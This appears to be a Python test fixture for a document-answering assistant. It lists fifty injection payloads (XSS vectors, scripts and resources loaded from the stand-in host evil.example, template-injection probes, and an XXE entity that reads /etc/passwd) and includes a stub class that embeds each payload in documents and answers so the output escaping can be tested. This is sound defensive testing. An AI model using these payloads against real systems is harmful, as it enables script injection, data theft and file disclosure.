"""Fifty ways in which a text has been made to act as markup: in HTML, in attributes, addresses, templates, Markdown and XML."""

from __future__ import annotations

from typing import Any

from assistant.reply import Answer, Reply, cut
from index.document import Document, Kind, Metadata, Value
from tests.web.library import Draft, Librarian

__all__ = ["PAYLOADS", "Hostile"]

PAYLOADS = (
    "<script>ran()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "</style><script>ran()</script>",
    "--><script>ran()</script><!--",
    "]]><script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<img src=//evil.example/x.png>",
    "<img/src='x'/onerror='ran()'>",
    "<svg onload=ran()>",
    "<svg><script href=data:,ran() /></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    "<body onload=ran()>",
    "<iframe src=javascript:ran()></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * { color: red }</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q autofocus onfocus=ran()></form>",
    "<details open ontoggle=ran()>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>",
    "<a href=javascript:ran()>点</a>",
    "<p style=background:url(//evil.example/x)>",
    "<template><script>ran()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    '" autofocus onfocus=ran() x="',
    "' onmouseover='ran()' x='",
    '"><script>ran()</script>',
    "'><svg onload=ran()>",
    "` onclick=ran() `",
    "javascript:ran()",
    "data:text/html,<script>ran()</script>",
    "&lt;script&gt;ran()&lt;/script&gt;&#60;img src=x onerror=ran()&#62;",
    "{{ 7919*1299709 }}{% for x in y %}${7919*1299709}#{7919*1299709}",
    "{{ config.__class__.__init__.__globals__ }}",
    "[点](javascript:ran()) ![x](//evil.example/x.png) <javascript:ran()>",
    "[点]: javascript:ran()\n[点]",
    "https://evil.example www.evil.example a@evil.example",
    "# 标题 * 一 - 二 > 引 1. 条 ``` 码 ``` $x$ ~~删~~ | 表 |",
    "]]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;<w:p/>",
    "\u202e<script>ran()</script>\u0000\u2028\ufeff",
    "＜script＞ran()＜/script＞ <\u0000script>ran()</script>",
)


class Hostile(Librarian):
    """Answers every question with a clause, a title, a number and a note that are *payload*."""

    def __init__(self, payload: str) -> None:
        super().__init__()
        draft = Draft("恶意")
        draft.clause(Kind.HEADING, "一", f"一、{payload}")
        self.place = draft.clause(Kind.PARAGRAPH, "一第1段", f"说明{payload}结束。")
        self.document: Document = draft.document(Metadata(title=Value(f"办法{payload}"), number=Value(f"号{payload}")))
        self.documents = {self.document.id: self.document}
        self.payload = payload

    def ask(self, question: str, history: Any = (), documents: Any = None, without: Any = ()) -> Reply:
        self.calls.append((question, tuple(history), documents))
        quote = cut(self.document, self.place, self.place.span)
        notes = (self.payload,)
        return Answer(
            question, "zh", (), (quote,), (), complete=True, confidence=0.9, notes=notes, generation="generation-1", seconds=0.001
        )
